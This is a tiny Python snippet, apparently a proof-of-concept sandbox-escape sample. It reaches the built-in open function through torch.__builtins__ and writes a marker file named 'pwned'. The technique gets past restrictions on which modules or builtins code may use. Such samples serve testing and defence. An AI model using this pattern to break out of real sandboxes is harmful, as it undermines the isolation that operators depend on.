import torch

x = torch.__builtins__['open']('pwned', 'w')
